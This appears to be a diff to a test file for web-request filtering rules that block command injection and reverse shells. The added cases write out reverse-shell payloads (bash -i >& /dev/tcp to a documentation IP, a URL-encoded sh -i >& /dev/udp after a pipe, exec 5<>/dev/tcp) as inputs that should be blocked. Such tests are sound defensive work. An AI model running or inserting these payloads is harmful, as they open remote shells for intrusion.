@@ -13,7 +13,8 @@
  * ruby, php) and 9000375 (cat /etc, /proc). 9000369 keeps its Windows probes but `ver`, now 9000376, whose trigger is
  * `ver` right after the `&`, a blank, `+` or `%20`. 9000117 keeps the word operators (trigger: a blank before them);
  * `||`, `&&` and DIV are 9000183. `net user` in 9000369 and 9000387 takes no line break right after `net` (a Host
- * ending in .net, `.NET CLR` then a header's line end).
+ * ending in .net, `.NET CLR` then a header's line end). 9000315 keeps its droppers and nc/fifo shells; `sh -i >&` is
+ * 9000377, whose trigger is `-i>` or a blank before the `>` (rev 3's was every `>`).
  */
 import { describe } from 'vitest';
 import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
@@ -52,6 +53,9 @@ const CASES_10X: RuleCase[] = [
   [9000117, 'block', 'OR 1 as a JSON value', json('{"page":"9255 or 1"}'), json('{"answer":"2 or 3"}')],
   [9000183, 'block', '|| 1 as a form value', form('id=1+%7C%7C+1'), form('id=1+%7C%7C+2')],
   [9000183, 'block', 'DIV 0 and a hash comment', form('file=8998+div+0%23&submit=1'), form('q=8+div+block')],
+  [9000377, 'block', 'an interactive shell with its descriptors redirected', json('{"cmd":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}'), json('{"note":"run bash -i > out.log & tail it"}')],
+  [9000377, 'block', 'sh -i >& with + for blanks in a query', q('c=x%7Csh+-i+%3E%26+%2Fdev%2Fudp%2F203.0.113.9%2F53'), q('c=sh+-i+%3E+out.txt')],
+  [9000315, 'block', 'a /dev/tcp host and port (rev 4 keeps it)', json('{"cmd":"exec 5<>/dev/tcp/203.0.113.9/4444"}'), json('{"doc":"/dev/tcp is a bash feature"}')],
 ];
 
 describe('bundled rules split for specific prefilter triggers (rev 2026-12-10u)', () => {
